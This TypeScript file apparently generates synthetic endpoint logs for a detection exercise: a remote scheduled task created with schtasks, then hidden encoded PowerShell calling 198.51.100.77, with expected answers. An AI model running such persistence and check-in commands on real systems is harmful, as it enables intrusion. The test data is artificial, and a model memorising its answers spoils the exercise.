/**
 * Five minutes on a laptop and a print server, seen by Elastic Endpoint. The same technique as in the other
 * incident; here the sensor kept the bytes of the `Actions` value, so the command comes from the registry.
 */
import type { Sample } from "./expected.ts";
import { EndpointLog } from "./endpoint.ts";
import type { Placed } from "./endpoint.ts";
import { localTime } from "./scenes.ts";
import {
  TASK_CACHE,
  actionsValue,
  creationSteps,
  encodedCommand,
  updateSteps,
} from "./task.ts";
import type { Task } from "./task.ts";
import {
  ADMIN,
  CLERK_2,
  CLIENTS,
  DOMAIN_CONTROLLER,
  MANAGEMENT_SERVER,
  SYSTEM,
  newMachine,
  startProcess,
} from "./world.ts";
import type { Machine, Process } from "./world.ts";

const START_MS = Date.UTC(2026, 2, 18, 14, 2);
const BOOT_MS = Date.UTC(2026, 2, 18, 5, 51);
const at = (seconds: number): number => START_MS + Math.round(seconds * 1000);

const SCRIPT =
  "irm http://198.51.100.77/checkin -Method Post -Body (hostname) | Out-Null";
const LINES = 150;

export function incidentEndpoint(): Sample {
  const log = new EndpointLog(2_260);
  const laptop = newMachine(61, "LT-2260", "10.20.6.60", CLERK_2, BOOT_MS);
  const server = newMachine(62, "SRV-PRINT1", "10.20.1.16", CLERK_2, BOOT_MS);
  const { rpc, schedule, eventLog } = server.services;
  const console = [MANAGEMENT_SERVER, 51_990] as const;

  // Look-alikes: the endpoint mapper, another svchost, and a connection the other way round.
  log.network(server, rpc, at(21), console, [server.address, 135]);
  log.network(server, eventLog, at(22), console, [server.address, 49_665]);
  log.network(
    server,
    schedule,
    at(24),
    [server.address, 50_871],
    [MANAGEMENT_SERVER, 49_690],
  );
  burst(log, server, updatedByWindows(at(31)), at(31), updateSteps);

  const planted = attack(log, laptop, server, at(213.418));
  while (log.size < LINES) everyday(log, laptop, server);
  return log.finish([planted]);
}

function attack(
  log: EndpointLog,
  laptop: Machine,
  server: Machine,
  createMs: number,
) {
  const { schedule, rpc } = server.services;
  const task: Task = {
    guid: "{C2A96F18-4B7E-4D02-9F3B-6E8D1A05B7C4}",
    path: "\\Queue cleanup",
    author: `${ADMIN.domain}\\${ADMIN.name}`,
    date: localTime(createMs),
    start: "2026-03-18T23:40:00",
    command: "cmd.exe",
    arguments: `/c start /min powershell -nop -w hidden -enc ${encodedCommand(SCRIPT)}`,
    userId: SYSTEM.sid,
  };

  const prompt = startProcess(laptop, createMs - 41_000, {
    image: "C:\\Windows\\System32\\cmd.exe",
    commandLine: '"C:\\Windows\\system32\\cmd.exe"',
    account: ADMIN,
    parent: laptop.services.explorer,
  });
  const create = startProcess(laptop, createMs - 3_300, {
    image: "C:\\Windows\\System32\\schtasks.exe",
    commandLine: `schtasks /create /s ${server.name} /u ${ADMIN.domain}\\${ADMIN.name} /p Larch-Tarn-2260 /tn "${task.path}" /xml C:\\Users\\Public\\q.xml`,
    account: ADMIN,
    parent: prompt,
  });
  const from = [laptop.address, 50_418] as const;
  log.processStart(laptop, prompt);
  log.processStart(laptop, create);
  log.libraryLoad(laptop, create, createMs - 3_270, "taskschd.dll");
  log.network(laptop, create, createMs - 3_240, from, [server.address, 49_668]);
  log.processEnd(laptop, create, createMs + 88);

  const lateMs = 4_650;
  log.network(
    server,
    rpc,
    createMs - 3_230,
    [laptop.address, 50_417],
    [server.address, 135],
  );
  log.logon(server, ADMIN, createMs - 3_200, from);
  // Accepted before the task was written, ingested a second and a half after it.
  const connection = log.network(
    server,
    schedule,
    createMs - 3_214,
    from,
    [server.address, 49_668],
    lateMs,
  );
  const actions = burst(log, server, task, createMs, creationSteps);
  log.fileCreate(
    server,
    schedule,
    createMs + 9,
    `C:\\Windows\\System32\\Tasks${task.path}`,
  );
  log.taskCreated(server, ADMIN, createMs + 30, task.path);
  for (const afterMs of [240, 410, 690, 930]) {
    log.libraryLoad(
      server,
      server.services.defender,
      createMs + afterMs,
      `mpengine-${afterMs}.dll`,
    );
  }

  const run = (
    afterMs: number,
    image: string,
    commandLine: string,
    parent: Process,
  ): Process => {
    const process = startProcess(server, createMs + afterMs, {
      image: `C:\\Windows\\System32\\${image}`,
      commandLine,
      account: SYSTEM,
      parent,
    });
    log.processStart(server, process);
    return process;
  };
  const shell = run(20_100, "cmd.exe", `cmd.exe ${task.arguments}`, schedule);
  const powershell = run(
    20_180,
    "WindowsPowerShell\\v1.0\\powershell.exe",
    task.arguments.slice("/c start /min ".length),
    shell,
  );
  log.libraryLoad(server, powershell, createMs + 20_420, "amsi.dll");
  log.network(
    server,
    powershell,
    createMs + 21_900,
    [server.address, 60_310],
    ["198.51.100.77", 80],
  );
  log.processEnd(server, powershell, createMs + 22_600);
  log.processEnd(server, shell, createMs + 22_640);
  log.logon(server, ADMIN, createMs + 14_000, undefined);

  return {
    host: server.name,
    events: [connection, actions],
    actions: [
      { type: "exec", command: task.command, arguments: task.arguments },
    ],
    source: "registry value",
  } as const;
}

function updatedByWindows(atMs: number): Task {
  return {
    guid: "{E4C1B7F2-6A0D-4D8B-93A5-2D0B6F6C1E77}",
    path: "\\Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan",
    author: "Microsoft Corporation",
    date: localTime(atMs),
    start: localTime(atMs + 7_200_000),
    command: "%systemroot%\\system32\\usoclient.exe",
    arguments: "StartScan",
    userId: SYSTEM.sid,
  };
}

/** The values of one burst; Endpoint reports no created keys. @returns the write of `Actions` */
function burst(
  log: EndpointLog,
  machine: Machine,
  task: Task,
  atMs: number,
  stepsOf: typeof creationSteps,
): Placed {
  let last: Placed | undefined;
  for (const step of stepsOf(task)) {
    if (step.details === undefined) continue;
    const dword = /^DWORD \((0x[0-9a-f]+)\)$/.exec(step.details);
    last = log.registry(
      machine,
      machine.services.schedule,
      atMs,
      dword !== null
        ? { path: step.path, type: "REG_DWORD", data: String(Number(dword[1])) }
        : step.details !== "Binary Data"
          ? { path: step.path, type: "REG_SZ", data: step.details }
          : {
              path: step.path,
              type: "REG_BINARY",
              data: step.path.endsWith("\\Actions")
                ? actionsValue(task)
                : Buffer.from(log.random.hex(64), "hex"),
            },
    );
  }
  return last!;
}

/** One everyday event or two, anywhere in the five minutes. */
function everyday(log: EndpointLog, laptop: Machine, server: Machine): void {
  const { random } = log;
  const atMs = at(random.int(1, 290));
  const machine = random.pick([laptop, server]);
  const { services } = machine;
  const port = random.int(49_700, 64_000);
  switch (random.int(0, 5)) {
    case 0: {
      const process = startProcess(machine, atMs, {
        image: "C:\\Windows\\System32\\backgroundTaskHost.exe",
        commandLine: `backgroundTaskHost.exe -ServerName:App.${random.hex(12)}`,
        account: CLERK_2,
        parent: services.explorer,
      });
      log.processStart(machine, process);
      log.processEnd(machine, process, atMs + random.int(500, 6_000));
      break;
    }
    case 1:
      log.dnsLookup(
        machine,
        services.remoteDesktop,
        atMs,
        "mail.corvane.example",
        "10.20.1.31",
      );
      break;
    case 2:
      log.network(
        machine,
        services.remoteDesktop,
        atMs,
        [machine.address, port],
        [DOMAIN_CONTROLLER, 53],
      );
      break;
    case 3:
      log.network(
        server,
        server.services.system,
        atMs,
        [random.pick(CLIENTS), port],
        [server.address, 445],
      );
      break;
    case 4:
      log.registry(machine, services.schedule, atMs, {
        path: `${TASK_CACHE}\\Tasks\\{1F7C4E1A-55D0-4B0E-AE27-90C4B1E5D023}\\DynamicInfo`,
        type: "REG_BINARY",
        data: Buffer.from(random.hex(72), "hex"),
      });
      break;
    default:
      log.fileCreate(
        machine,
        services.explorer,
        atMs,
        `C:\\Users\\${CLERK_2.name}\\AppData\\Local\\Temp\\${random.hex(8)}.tmp`,
      );
  }
}
